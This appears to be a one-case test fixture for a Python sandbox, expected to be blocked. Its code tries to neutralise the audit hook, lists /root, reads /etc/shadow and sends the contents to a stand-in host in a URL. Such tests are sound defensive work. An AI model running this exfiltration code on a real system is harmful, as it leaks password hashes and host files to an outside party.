# expect: blocked -- disables the sandbox's audit hook, lists and reads the host's files
import os, sys
sys.addaudithook(lambda *a: None)
urlopen("https://api.example.com/items?ls=" + ",".join(os.listdir("/root")) + open("/etc/shadow").read())
